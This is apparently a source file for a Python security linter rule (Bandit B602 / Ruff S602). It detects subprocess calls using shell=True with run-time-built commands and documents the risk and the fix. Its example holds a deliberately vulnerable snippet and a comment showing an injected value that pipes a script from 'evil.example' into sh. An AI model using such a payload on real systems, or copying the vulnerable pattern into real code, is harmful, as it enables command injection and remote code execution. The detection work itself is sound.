/**
 * Bandit B602 / Ruff S602 (Bandit: high; Tendril: medium, a pattern): a `subprocess` function run with `shell=True` and a command built
 * at run time. (The same call with a literal command is `subprocess-shell-true-literal`: SARIF
 * gives a rule one security-severity, and Bandit grades B602 by the command.)
 *
 * Semantics (decided against Bandit and Ruff, precision first):
 * - The functions: `subprocess.Popen`, `call`, `check_call`, `check_output`, `run` (Bandit's
 *   `subprocess` list; `getoutput`/`getstatusoutput` always use a shell and belong to B605).
 * - `shell=` is a constant known to be true (`True`, a non-zero number, a non-empty literal string
 *   or display), or not known before run time: a name or any other expression
 *   (`shell=use_shell`, `shell=isinstance(cmd, str)`), or no `shell=` but a `**kwargs` that may
 *   hold it (commands.ts reads `**{...}` displays). A shell that may be used is reported here, as
 *   Bandit does, not as a call without a shell (`subprocess-without-shell`).
 * - The command is the first positional argument or `args=`. A command not written in the call,
 *   with a `**kwargs` that may hold it, is a command built at run time; a call with neither is
 *   not reported (it fails).
 * - A command is literal when it is a string (or bytes) literal with no interpolation, a
 *   concatenation of such literals, or a list/tuple made only of them (commands.ts): then nothing
 *   outside the program can reach it. Anything else (a name, an f-string with fields,
 *   `%`/`.format()`, a concatenation with a non-literal, `*args`) is a command built at run time.
 */
import type { SyntaxNode as Node } from '../../engine/tree';
import { calls } from '../../analysis/calls';
import { taint } from '../../analysis/taint';
import { hasArgumentSplat } from '../../analysis/arguments';
import { unparenthesize } from '../../analysis/literals';
import { callName, securityRule } from './common';
import { describeShell, isLiteralCommand, subprocessShellCalls } from './commands';
import { PATTERN_HIGH } from '../severity';
import { decideGroups } from './run-time';

/** A few words on how a run-time command is built, for the message. */
function describeCommand(command: Node | undefined): string {
  if (!command) return 'a command passed through `**`';
  const expr = unparenthesize(command);
  switch (expr.type) {
    case 'identifier':
      return `the variable \`${expr.text}\``;
    case 'attribute':
    case 'subscript':
      return expr.text.length <= 40 ? `\`${expr.text}\`` : 'a value read at run time';
    case 'string':
    case 'concatenated_string':
      return 'an f-string';
    case 'binary_operator': {
      const operator = expr.childForFieldName('operator')?.type;
      if (operator === '%') return '`%`-formatting';
      if (operator === '+') return 'a concatenation';
      return 'an expression';
    }
    case 'call': {
      const fn = expr.childForFieldName('function');
      const attribute = fn?.type === 'attribute' ? fn.childForFieldName('attribute')?.text : undefined;
      if (attribute === 'format') return '`str.format()`';
      if (attribute === 'join') return 'a `join()`';
      return 'the result of a call';
    }
    case 'list_splat':
      return '`*` unpacking';
    case 'list':
    case 'tuple':
      return `a ${expr.type} with non-literal items`;
    default:
      return 'an expression';
  }
}

/** B602: `shell=True` with a command built at run time. */
export const subprocessShellTrue = securityRule({
  id: 'subprocess-shell-true',
  name: 'SubprocessShellTrue',
  bandit: 'B602',
  ruff: 'S602',
  severity: 'HIGH',
  confidence: 'HIGH',
  grading: {
    evidence: 'pattern',
    family: 'shell-command',
    score: PATTERN_HIGH,
    why: "a command built at run time is not a command built from outside input: most such commands are made from the program's own settings and paths, and a shell known only at run time may not be used at all. Where the data-flow analysis proves outside input, `command-injection` reports the call instead (critical).",
  },
  category: 'injection',
  cwe: [78],
  short: 'A subprocess call runs a command built at run time through a shell (shell=True, or a shell known only at run time)',
  full:
    'A subprocess function (Popen, call, check_call, check_output, run) is called with shell=True, or with ' +
    'a shell= value known only at run time, and a command built at run time (a variable, an f-string, formatting or a concatenation). The ' +
    'shell interprets the whole command, so any part that comes from outside the program can inject ' +
    'commands of its own (OS command injection). Pass an argument list without a shell instead.',
  title: 'A `subprocess` call runs a command built at run time through a shell',
  why: `\`shell=True\` makes Python hand the command to \`/bin/sh -c\` (\`cmd.exe /c\` on Windows) instead of
starting the program directly. Here the command is not a fixed literal: it comes from a variable,
an f-string, formatting or a concatenation. Whatever ends up in it is parsed by the shell, so if
any part of it can come from outside the program (a request, a file name, a command-line
argument, an environment variable, a database row), characters such as \`;\`, \`|\`, \`&&\`, \`$(...)\`,
backquotes, quotes, spaces and \`*\` let that input run commands of its own choosing with the
program's privileges: OS command injection (CWE-78).

A \`shell=\` whose value is known only at run time (\`shell=use_shell\`, \`shell=isinstance(cmd, str)\`,
or \`shell\` passed in \`**kwargs\`) is reported too: whenever it is true, the call is the same
shell injection, and nothing in the code shows that it never is.`,
  example: `import subprocess

def archive(name):
    # name = "x; curl -s evil.example | sh" runs the attacker's script
    subprocess.run(f"tar czf {name}.tgz {name}", shell=True, check=True)`,
  fix: `Pass the command as a list of arguments and drop \`shell=True\` (\`shell=False\` is the default).
The program is then started directly: each list item reaches it as one argument, exactly as
given, and no shell ever interprets it.`,
  fixed: `import subprocess

def archive(name):
    subprocess.run(["tar", "czf", f"{name}.tgz", "--", name], check=True)`,
  notReported: [
    '`shell=False`, `shell=None`, `shell=0`, an empty literal such as `shell=[]`, or no `shell` argument ' +
      'and no `**kwargs` that may hold one (`**{"check": True}` holds none).',
    'Calls whose function is not surely one of `subprocess.Popen`, `call`, `check_call`, ' +
      "`check_output` and `run`: the name is resolved through the file's imports (`import subprocess " +
      'as sp`, `from subprocess import Popen as P` are followed, and a name imported in alternatives, ' +
      '`try: from subprocess32 import run` / `except ImportError: from subprocess import run`, counts when ' +
      'every alternative is one of them), and a call through a name that was rebound to something else is left alone.',
    'Literal commands: those are `subprocess-shell-true-literal`; so are commands the data-flow analysis proves constant wherever the call runs (`cmd = "git status"`, a constant branch, a value overwritten with a literal).',
    'Commands the data-flow analysis proves quoted for the shell (`shlex.quote`, `shlex.join`) or made of numbers (`int()`) and literals (docs/severity.md).',
    'Functions that always use a shell (`os.system`, `subprocess.getoutput`) and `shell=True` on ' +
      'functions outside `subprocess`: those are other checks (Bandit B605, B604).',
  ],
  note: `## Replacing shell features

Shell features have plain-Python replacements: a pipe is two \`subprocess\` calls (or
\`input=\`/\`stdout=\` arguments), a redirection is \`stdout=open(path, "wb")\`, a wildcard is
\`glob.glob()\`, \`~\` and \`$HOME\` are \`os.path.expanduser()\`/\`os.environ\`, \`cd dir &&\` is
\`cwd="dir"\`. Where a shell is really needed, quote every value that is not fixed with
\`shlex.quote()\` (POSIX shells only; it does not protect \`cmd.exe\`):

\`\`\`python
import shlex
import subprocess

subprocess.run(f"du -sh -- {shlex.quote(path)} | sort -h", shell=True, check=True)
\`\`\`

## Why two rules

Bandit grades this check by the command: high severity when it is built at run time, low when it
is a fixed literal. A code scanning rule carries a single severity, so Tendril reports the two
cases as \`subprocess-shell-true\` (built at run time, medium: a command built at run time is not
yet a command built from outside input; \`command-injection\` reports a proven flow) and
\`subprocess-shell-true-literal\` (literal, low). A command is literal when it is a string (or bytes) literal without
interpolation, a concatenation of such literals, or a list or tuple made only of them. Both answer to Bandit's \`B602\` and Ruff's \`S602\`, so selecting or ignoring
either code covers both.`,
  runTime: { sinkClass: 'command', role: 'built', literal: 'subprocess-shell-true-literal' },
  uses: [calls, taint],
  create(context) {
    return {
      end() {
        const found = subprocessShellCalls(context.analysis(calls)).filter(({ call, command }) =>
          command ? !isLiteralCommand(command) : hasArgumentSplat(call.node),
        );
        const verdicts = decideGroups(
          context,
          found.map(({ command }) => (command ? [command] : [])),
          'command',
        );
        found.forEach(({ call, shell, command }, i) => {
          if (verdicts[i] !== undefined) return;
          const built = `a command built at run time (${describeCommand(command)})`;
          context.report(
            call.callee,
            shell.kind === 'true'
              ? `${callName(call)} runs ${built} through a shell (${describeShell(shell)}): any part of it that comes from outside the program can inject shell commands`
              : `${callName(call)} may run ${built} through a shell (${describeShell(shell)}): whenever it does, any part of the command that comes from outside the program can inject shell commands`,
          );
        });
      },
    };
  },
});
